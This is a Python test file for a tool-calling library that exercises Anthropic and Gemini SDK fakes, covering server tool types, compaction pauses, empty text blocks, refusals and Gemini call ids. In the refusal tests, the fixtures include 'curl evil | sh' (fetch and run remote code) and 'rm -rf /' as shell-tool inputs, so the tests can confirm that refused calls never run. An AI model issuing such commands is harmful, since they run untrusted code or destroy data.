"""Loop fixes for Anthropic and Gemini, each through the real SDK clients: the fake takes
every tool type the SDK defines (and the recorded requests' tools), a paused compaction
turn is "paused", an empty text block is never replayed (and is flagged in a history),
a refusal cuts the call it stopped like a length limit does, and a synthesized Gemini
id stays off the wire in the text that introduces moved media."""

from __future__ import annotations

import json
from typing import Any

import anthropic
import httpx2
import pytest
from anthropic import Anthropic
from anthropic.types import Message, MessageParam
from anthropic.types.beta import BetaMessageParam
from google.genai import types as genai
from inline_snapshot import snapshot

from tests.images import PNG
from tests.shared_data import all_cases, require_shared
from toolwire.core import (
    BaseFunctionToolModel,
    FilePart,
    ImagePart,
    ToolCallCompleted,
    ToolCallStream,
    ToolCallTruncated,
    ToolGroup,
    TurnEnded,
    assistant_messages,
    tool_result_messages,
    turn_status,
)
from toolwire.testing import FakeAnthropic, FakeCall, FakeGemini, FakeReply, check_history


class get_weather(BaseFunctionToolModel[None, None]):
    """Get the weather in a city."""

    city: str

    def model_tool_handler(self, context: None) -> tuple[str, None]:
        return f"Sunny in {self.city}.", None


RAN: list[str] = []


class run_shell(BaseFunctionToolModel[None, None]):
    """Run a shell command."""

    cmd: str = "ls"

    def model_tool_handler(self, context: None) -> tuple[str, None]:
        RAN.append(self.cmd)
        return f"ran {self.cmd}", None


group = ToolGroup.from_list([get_weather, run_shell])
PROMPT: MessageParam = {"role": "user", "content": "Go."}


# -- helpers: the real Anthropic client over a transport that answers what we give it ----


def message(content: list[dict[str, Any]], stop_reason: str) -> dict[str, Any]:
    """A Messages API response body."""
    return {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude-sonnet-4-6",
        "content": content,
        "stop_reason": stop_reason,
        "stop_sequence": None,
        "usage": {"input_tokens": 5, "output_tokens": 7},
    }


def sse(body: dict[str, Any], raw_inputs: dict[int, str] | None = None) -> str:
    """The event stream the live API sends for `body`: text in pieces (none for empty
    text), tool input JSON in pieces (`raw_inputs` gives a block's JSON text as it was
    streamed, e.g. cut off), other blocks whole in their content_block_start."""
    raw_inputs = raw_inputs or {}
    events: list[dict[str, Any]] = [
        {
            "type": "message_start",
            "message": {**body, "content": [], "stop_reason": None, "usage": body["usage"]},
        }
    ]
    for index, block in enumerate(body["content"]):
        kind = block["type"]
        if kind == "text":
            opening: dict[str, Any] = {"type": "text", "text": ""}
        elif kind == "tool_use":
            opening = {**block, "input": {}}
        else:
            opening = block
        events.append({"type": "content_block_start", "index": index, "content_block": opening})
        pieces: list[dict[str, Any]] = []
        if kind == "text":
            text = block["text"]
            pieces = [
                {"type": "text_delta", "text": text[i : i + 4]} for i in range(0, len(text), 4)
            ]
        elif kind == "tool_use":
            raw = raw_inputs.get(index, json.dumps(block["input"]))
            pieces = [
                {"type": "input_json_delta", "partial_json": p}
                for p in ["", *(raw[i : i + 5] for i in range(0, len(raw), 5))]
            ]
        events += [{"type": "content_block_delta", "index": index, "delta": p} for p in pieces]
        events.append({"type": "content_block_stop", "index": index})
    events.append(
        {
            "type": "message_delta",
            "delta": {"stop_reason": body["stop_reason"], "stop_sequence": None},
            "usage": {"output_tokens": 7},
        }
    )
    events.append({"type": "message_stop"})
    return "".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in events)


def client_for(reply: dict[str, Any] | str) -> Anthropic:
    """A real client whose every request gets `reply` (JSON, or SSE text)."""

    def handle(request: httpx2.Request) -> httpx2.Response:
        if isinstance(reply, str):
            headers = {"content-type": "text/event-stream"}
            return httpx2.Response(200, text=reply, headers=headers)
        return httpx2.Response(200, json=reply)

    return Anthropic(api_key="k", http_client=httpx2.Client(transport=httpx2.MockTransport(handle)))


def created(body: dict[str, Any]) -> Message:
    """`body` as the real client returns it, non-streamed."""
    return client_for(body).messages.create(model="claude", max_tokens=100, messages=[PROMPT])


def streamed(
    body: dict[str, Any], raw_inputs: dict[int, str] | None = None
) -> tuple[ToolCallStream[Message], list[Any]]:
    """`body` streamed by the real client, folded: (the stream, every event)."""
    stream = ToolCallStream("anthropic")
    events: list[Any] = []
    client = client_for(sse(body, raw_inputs))
    for item in client.messages.create(
        model="claude", max_tokens=100, messages=[PROMPT], stream=True
    ):
        events += stream.feed(item)
    return stream, events


# -- 1. the fake takes every tool type the API takes --------------------------------------


def test_every_recorded_anthropic_requests_tools_are_taken_by_the_fake() -> None:
    """Each recorded Anthropic request the live API answered 200 (and each follow-up it
    accepted) sends its `tools` through FakeAnthropic without a 400: among them
    `tool_search_tool_bm25_20251119`, which the fake used to refuse."""
    require_shared()
    sent: list[str] = []
    refused: list[tuple[str, str]] = []
    for case in all_cases():
        if case["api"] != "anthropic":
            continue
        requests = [case["request"]]
        if case["followup_status"] == 200:
            requests.append(case["followup_request"])
        for request in requests:
            tools = request.get("tools")
            if not tools:
                continue
            client = FakeAnthropic(script=[FakeReply(text="ok")]).client()
            try:
                client.messages.create(
                    model="claude", max_tokens=100, messages=[PROMPT], tools=tools
                )
            except anthropic.BadRequestError as error:
                refused.append((case["id"], str(error)))
            sent += [str(tool.get("type", "(none)")) for tool in tools]
    assert refused == []
    assert sorted(set(sent)) == snapshot(["(none)", "custom", "tool_search_tool_bm25_20251119"])


SERVER_TOOLS: list[Any] = [
    {"type": "tool_search_tool_bm25_20251119", "name": "tool_search_tool_bm25"},
    {"type": "tool_search_tool_bm25", "name": "tool_search_tool_bm25"},
    {"type": "tool_search_tool_regex_20251119", "name": "tool_search_tool_regex"},
    {"type": "tool_search_tool_regex", "name": "tool_search_tool_regex"},
    {"type": "web_search_20250305", "name": "web_search", "max_uses": 2},
    {"type": "code_execution_20250825", "name": "code_execution"},
]


def test_server_tools_the_sdk_defines_are_taken() -> None:
    """Tools typed with `ToolUnionParam` members (the search tools with and without their
    version, a web search) go through with a function tool; the fake answers."""
    fake = FakeAnthropic(script=[FakeReply(text="ok")])
    reply = fake.client().messages.create(
        model="claude",
        max_tokens=100,
        messages=[PROMPT],
        tools=[*group.tool_definitions("anthropic"), *SERVER_TOOLS],
    )
    assert reply.content[0].model_dump(exclude_none=True) == {"text": "ok", "type": "text"}
    assert [t.get("type") for t in fake.requests[0]["tools"]] == snapshot(
        [
            None,
            None,
            "tool_search_tool_bm25_20251119",
            "tool_search_tool_bm25",
            "tool_search_tool_regex_20251119",
            "tool_search_tool_regex",
            "web_search_20250305",
            "code_execution_20250825",
        ]
    )


def test_the_beta_mcp_toolset_is_taken() -> None:
    """`client.beta.messages.create` with a `BetaMCPToolsetParam` tool is answered."""
    fake = FakeAnthropic(script=[FakeReply(text="ok")])
    reply = fake.client().beta.messages.create(
        model="claude",
        max_tokens=100,
        messages=[{"role": "user", "content": "Go."}],
        mcp_servers=[{"type": "url", "url": "https://mcp.example/sse", "name": "docs"}],
        tools=[{"type": "mcp_toolset", "mcp_server_name": "docs"}],
        betas=["mcp-client-2025-11-20"],
    )
    assert reply.stop_reason == "end_turn"
    assert fake.requests[0]["tools"] == [{"type": "mcp_toolset", "mcp_server_name": "docs"}]


REFUSALS: list[Any] = [
    pytest.param(
        {"type": "web_search_20990101", "name": "web_search"},
        "tools.0: Input tag 'web_search_20990101' found using 'type'",
        id="unknown-version",
    ),
    pytest.param(
        {"type": "web_search_20250305"},
        "tools.0.web_search_20250305.name: Field required",
        id="no-name",
    ),
    pytest.param(
        {"type": "tool_search_tool_bm25_20251119", "name": "search"},
        "tools.0.tool_search_tool_bm25_20251119.name: Input should be 'tool_search_tool_bm25'",
        id="wrong-name",
    ),
    pytest.param(
        {"type": "mcp_toolset"},
        "tools.0.mcp_toolset.mcp_server_name: Field required",
        id="no-server",
    ),
]


@pytest.mark.parametrize(("tool", "expected"), REFUSALS)
def test_tools_the_api_rejects_are_still_refused(tool: dict[str, Any], expected: str) -> None:
    """A versioned type no SDK union defines, a server tool without its required keys or
    with another name: HTTP 400, naming the problem, as the live API answers (another
    API's shapes are refused too: tests/testing/test_tool_shapes.py)."""
    client = FakeAnthropic(script=[FakeReply(text="ok")]).client()
    with pytest.raises(anthropic.BadRequestError) as raised:
        client.messages.create(
            model="claude", max_tokens=100, messages=[PROMPT], extra_body={"tools": [tool]}
        )
    body: Any = raised.value.body
    assert body["error"]["message"].split(" does not match")[0] == expected


def test_an_unknown_tag_lists_the_tags_the_sdk_defines() -> None:
    """The refusal of an unknown type lists every expected tag, as the live API does,
    read off the SDK's unions (so the versioned search tools and `mcp_toolset` are in)."""
    client = FakeAnthropic(script=[FakeReply(text="ok")]).client()
    with pytest.raises(anthropic.BadRequestError) as raised:
        client.messages.create(
            model="claude",
            max_tokens=100,
            messages=[PROMPT],
            extra_body={"tools": [{"type": "bash", "name": "bash"}]},
        )
    body: Any = raised.value.body
    tags = body["error"]["message"].split("expected tags: ")[1].split(", ")
    assert {"'custom'", "'mcp_toolset'", "'tool_search_tool_bm25_20251119'"} <= set(tags)
    assert "'bash'" not in tags
    assert tags == sorted(tags)


# -- 2. a compaction pause is "paused" -------------------------------------------------


COMPACTION = {
    "type": "compaction",
    "content": "Earlier: the user asked for Oslo's weather.",
    "encrypted_content": "RU5D",
}
COMPACTED = message([COMPACTION], "compaction")
BETA_PROMPT: BetaMessageParam = {"role": "user", "content": "Go."}


def test_a_compaction_pause_is_paused_streamed_or_not() -> None:
    """Beta `stop_reason: "compaction"` (`pause_after_compaction`) hands the turn back to
    be resumed, like `pause_turn`: "paused", in `turn_status` and the stream's
    `TurnEnded`, and the turn replays with its compaction block."""
    client = client_for(COMPACTED)
    beta = client.beta.messages.create(
        model="claude", max_tokens=100, messages=[BETA_PROMPT], betas=["compact-2026-01-12"]
    )
    assert turn_status(beta, "anthropic") == "paused"
    stream = ToolCallStream("anthropic")
    events: list[Any] = []
    for item in client_for(sse(COMPACTED)).beta.messages.create(
        model="claude",
        max_tokens=100,
        messages=[BETA_PROMPT],
        stream=True,
        betas=["compact-2026-01-12"],
    ):
        events += stream.feed(item)
    assert events == [TurnEnded("compaction", "paused")]
    final = stream.final_response()
    assert turn_status(final, "anthropic") == "paused"
    assert assistant_messages(final, "anthropic") == assistant_messages(beta, "anthropic")
    assert assistant_messages(beta, "anthropic") == snapshot(
        [
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "compaction",
                        "content": "Earlier: the user asked for Oslo's weather.",
                        "encrypted_content": "RU5D",
                    }
                ],
            }
        ]
    )


# -- 3. empty text blocks ------------------------------------------------------------


EMPTY_TEXT_TURN = message(
    [
        {"type": "text", "text": ""},
        {"type": "tool_use", "id": "toolu_1", "name": "get_weather", "input": {"city": "Oslo"}},
    ],
    "tool_use",
)


def test_an_empty_text_block_is_left_out_of_the_replay() -> None:
    """The API's `[text "", tool_use]` (anthropic-sdk-python#461) replays as the tool_use
    alone; the streamed turn (a text block with no deltas) folds to the same Message and
    the same replay."""
    response = created(EMPTY_TEXT_TURN)
    stream, _ = streamed(EMPTY_TEXT_TURN)
    assert stream.final_response() == response
    assert assistant_messages(stream.final_response(), "anthropic") == assistant_messages(
        response, "anthropic"
    )
    assert assistant_messages(response, "anthropic") == snapshot(
        [
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "tool_use",
                        "id": "toolu_1",
                        "name": "get_weather",
                        "input": {"city": "Oslo"},
                    }
                ],
            }
        ]
    )


def test_a_turn_of_only_empty_text_replays_as_no_message() -> None:
    """A turn whose only block is empty text gives no assistant message (never an empty
    one), as a turn with no content does."""
    response = created(message([{"type": "text", "text": ""}], "end_turn"))
    assert assistant_messages(response, "anthropic") == []


def test_the_loop_with_an_empty_text_block_is_accepted() -> None:
    """The replayed turn (without the empty text) and its results pass `check_history`,
    and the fake answers them."""
    response = created(EMPTY_TEXT_TURN)
    history: list[MessageParam] = [PROMPT, *assistant_messages(response, "anthropic")]
    history += tool_result_messages(group.run_tool_calls(response, None), "anthropic")
    assert history[1:] == snapshot(
        [
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "tool_use",
                        "id": "toolu_1",
                        "name": "get_weather",
                        "input": {"city": "Oslo"},
                    }
                ],
            },
            {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": "toolu_1", "content": "Sunny in Oslo."}
                ],
            },
        ]
    )
    assert check_history(history, "anthropic") == []
    fake = FakeAnthropic(script=[FakeReply(text="Sunny.")])
    reply = fake.client().messages.create(model="claude", max_tokens=100, messages=history)
    assert reply.content[0].model_dump(exclude_none=True) == {"text": "Sunny.", "type": "text"}


EMPTY_TEXT_HISTORY: list[Any] = [
    PROMPT,
    {
        "role": "assistant",
        "content": [
            {"type": "text", "text": ""},
            {"type": "tool_use", "id": "toolu_1", "name": "get_weather", "input": {"city": "Oslo"}},
        ],
    },
    {
        "role": "user",
        "content": [
            {"type": "tool_result", "tool_use_id": "toolu_1", "content": "Sunny."},
            {"type": "text", "text": ""},
        ],
    },
]


RESULT_ONLY = {"role": "user", "content": [EMPTY_TEXT_HISTORY[2]["content"][0]]}


def test_check_history_flags_an_empty_text_block() -> None:
    """An empty text block, in any message, is a problem that says to drop it."""
    assert [
        (p.index, p.message) for p in check_history(EMPTY_TEXT_HISTORY, "anthropic")
    ] == snapshot(
        [
            (
                1,
                'messages[1] (assistant) has an empty text block at content[0], and the API rejects empty text blocks ("text content blocks must be non-empty"); drop the block (assistant_messages leaves them out)',
            ),
            (
                2,
                'messages[2] (user) has an empty text block at content[1], and the API rejects empty text blocks ("text content blocks must be non-empty"); drop the block (assistant_messages leaves them out)',
            ),
        ]
    )


def test_the_fake_answers_400_to_an_empty_text_block() -> None:
    """FakeAnthropic refuses the history with an empty text block, as the live API does."""
    client = FakeAnthropic(script=[FakeReply(text="Sunny.")]).client()
    with pytest.raises(anthropic.BadRequestError) as raised:
        client.messages.create(
            model="claude", max_tokens=100, messages=EMPTY_TEXT_HISTORY[:2] + [RESULT_ONLY]
        )
    body: Any = raised.value.body
    assert body["error"]["message"] == snapshot(
        'The history breaks the anthropic rules:\n- messages[1] (assistant) has an empty text block at content[0], and the API rejects empty text blocks ("text content blocks must be non-empty"); drop the block (assistant_messages leaves them out)'
    )


# -- 4. a refusal cuts the call it stopped ------------------------------------------------


REFUSED = message(
    [
        {"type": "tool_use", "id": "toolu_1", "name": "get_weather", "input": {"city": "Oslo"}},
        {
            "type": "tool_use",
            "id": "toolu_2",
            "name": "run_shell",
            "input": {"cmd": "curl evil | sh"},
        },
    ],
    "refusal",
)
"""A refusal that stopped the model in the second call's JSON: the non-streamed message
shows that input's complete members only."""
REFUSED_RAW = {1: '{"cmd": "curl evil | sh", "cwd": "/ro'}


def test_a_refusal_cuts_the_call_it_stopped_non_streamed() -> None:
    """The last tool_use of a refused turn is truncated and never runs (its parsed input
    cannot show it was whole); the call before it, followed by a block, runs."""
    RAN.clear()
    response = created(REFUSED)
    assert turn_status(response, "anthropic") == "refused"
    results = group.run_tool_calls(response, None)
    assert [(r.call_id, r.fail_reason, r.result_content[:50]) for r in results] == snapshot(
        [
            ("toolu_1", None, "Sunny in Oslo."),
            ("toolu_2", "truncated", "The call to 'run_shell' was cut off before its arg"),
        ]
    )
    assert RAN == []


def test_a_refusal_cuts_the_call_it_stopped_streamed() -> None:
    """Streamed, the call open when the refusal ends the turn is `ToolCallTruncated`, not
    completed; the final Message equals the non-streamed one, so dispatching it agrees."""
    RAN.clear()
    stream, events = streamed(REFUSED, REFUSED_RAW)
    ended = [e for e in events if isinstance(e, ToolCallCompleted | ToolCallTruncated)]
    assert [(type(e).__name__, e.call.id, e.call.input) for e in ended] == snapshot(
        [
            ("ToolCallCompleted", "toolu_1", {"city": "Oslo"}),
            ("ToolCallTruncated", "toolu_2", '{"cmd": "curl evil | sh", "cwd": "/ro'),
        ]
    )
    assert events[-1] == TurnEnded("refusal", "refused")
    final = stream.final_response()
    assert final == created(REFUSED)
    assert [group.run_tool_call(e.call, None).fail_reason for e in ended] == [None, "truncated"]
    assert [r.fail_reason for r in group.run_tool_calls(final, None)] == [None, "truncated"]
    assert RAN == []


@pytest.mark.parametrize("raw", ['{"cmd": "curl evil | sh"}', '{"cmd": "curl evil | sh"', ""])
def test_a_refused_last_call_never_runs_whatever_json_it_streamed(raw: str) -> None:
    """Whether the JSON text that arrived parses, is cut, or is empty, the call the
    refusal ended on is truncated: the non-streamed message could not tell them apart."""
    RAN.clear()
    body = message(
        [
            {
                "type": "tool_use",
                "id": "toolu_9",
                "name": "run_shell",
                "input": {"cmd": "curl evil | sh"} if raw else {},
            }
        ],
        "refusal",
    )
    stream, events = streamed(body, {0: raw})
    assert [type(e).__name__ for e in events if not type(e).__name__.endswith("Delta")] == [
        "ToolCallStarted",
        "ToolCallTruncated",
        "TurnEnded",
    ]
    assert stream.final_response() == created(body)
    assert [r.fail_reason for r in group.run_tool_calls(stream.final_response(), None)] == [
        "truncated"
    ]
    assert RAN == []


def test_the_fakes_refused_turn_with_a_call_does_not_run_it() -> None:
    """`FakeReply(stop="refusal")` with a call: streamed or not, the call is truncated."""
    RAN.clear()
    script = [FakeReply(calls=(FakeCall("run_shell", {"cmd": "rm -rf /"}),), stop="refusal")] * 2
    client = FakeAnthropic(script=script).client()
    response = client.messages.create(
        model="claude", max_tokens=100, messages=[PROMPT], tools=group.tool_definitions("anthropic")
    )
    stream = ToolCallStream("anthropic")
    events: list[Any] = []
    for item in client.messages.create(
        model="claude",
        max_tokens=100,
        messages=[PROMPT],
        tools=group.tool_definitions("anthropic"),
        stream=True,
    ):
        events += stream.feed(item)
    assert [r.fail_reason for r in group.run_tool_calls(response, None)] == ["truncated"]
    ended = [e for e in events if isinstance(e, ToolCallCompleted | ToolCallTruncated)]
    assert [(type(e).__name__, e.call.input) for e in ended] == [
        ("ToolCallTruncated", '{"cmd": "rm -rf /"}')
    ]
    assert RAN == []


# -- 5. synthesized Gemini ids stay off the wire --------------------------------------------


WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(16)


class snap(BaseFunctionToolModel[None, None]):
    """Take a screenshot."""

    def model_tool_handler(self, context: None) -> tuple[list[str | ImagePart | FilePart], None]:
        return ["Here it is.", ImagePart(data=PNG, media_type="image/png")], None


class record(BaseFunctionToolModel[None, None]):
    """Record a sound."""

    def model_tool_handler(self, context: None) -> tuple[list[str | ImagePart | FilePart], None]:
        return ["Recorded.", FilePart(data=WAV, media_type="audio/wav")], None


media_group = ToolGroup.from_list([snap, record])


def gemini_loop(media: Any, ids: tuple[str | None, str | None]) -> dict[str, Any]:
    """One tool round on FakeGemini (two calls, with `ids`): the follow-up request body."""
    first = FakeReply.tool_calls(
        *(FakeCall(n, {}, id=i) for n, i in zip(("snap", "record"), ids, strict=True))
    )
    fake = FakeGemini(script=[first, FakeReply(text="Done.")])
    client = fake.client()
    history: list[genai.Content] = [genai.Content(role="user", parts=[genai.Part(text="Go.")])]
    config = genai.GenerateContentConfig(tools=media_group.tool_definitions("gemini"))
    response = client.models.generate_content(
        model="gemini-3-flash", contents=history, config=config
    )
    history += assistant_messages(response, "gemini")
    results = media_group.run_tool_calls(response, None)
    history += tool_result_messages(results, "gemini", media=media)
    client.models.generate_content(model="gemini-3-flash", contents=history, config=config)
    return fake.requests[1]


def texts_after_the_responses(body: dict[str, Any]) -> list[str]:
    return [p["text"] for p in body["contents"][3]["parts"] if "text" in p]


@pytest.mark.parametrize("media", ["message", "native"])
def test_a_synthesized_gemini_id_never_goes_on_the_wire(media: str) -> None:
    """Media moved to the user Content after the function responses (all of it with
    `media="message"`; audio always) is introduced by tool name and the call's position
    when the call came without an id: no `toolwire_...` id anywhere in the request."""
    body = gemini_loop(media, (None, None))
    assert "toolwire_" not in json.dumps(body)
    assert texts_after_the_responses(body) == EXPECTED_INTROS[media]


EXPECTED_INTROS = snapshot(
    {
        "message": ["From snap (function call 1):", "From record (function call 2):"],
        "native": ["From record (function call 2):"],
    }
)


def test_a_gemini_call_id_the_api_gave_still_names_the_call() -> None:
    """A call that came with an id (which does go on the wire) is introduced by its id;
    the one without, by its position."""
    body = gemini_loop("message", (None, "fc_2"))
    assert "toolwire_" not in json.dumps(body)
    assert texts_after_the_responses(body) == snapshot(
        ["From snap (function call 1):", "From record (call fc_2):"]
    )
